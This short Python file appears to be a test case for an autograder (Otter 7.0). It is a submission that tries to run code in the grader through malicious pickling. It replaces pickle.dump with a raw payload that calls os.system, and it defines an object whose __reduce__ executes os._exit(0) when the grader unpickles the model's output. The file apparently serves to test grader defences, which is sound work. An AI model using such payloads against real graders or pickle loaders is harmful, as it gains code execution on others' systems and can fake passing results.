"""Answers with objects whose unpickling would run code in the reader.

Code execution in the grader of Otter 7.0, by a replaced pickle.dump.

Outcome: error or failed
"""
import pickle

pickle.dump = pickle.dumps = lambda *a, **k: b"cos\nsystem\n(S'true'\ntR."


class Evil:
    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)


class SequentialMLP(SequentialMLP):
    def forward(self, x):
        return Evil()
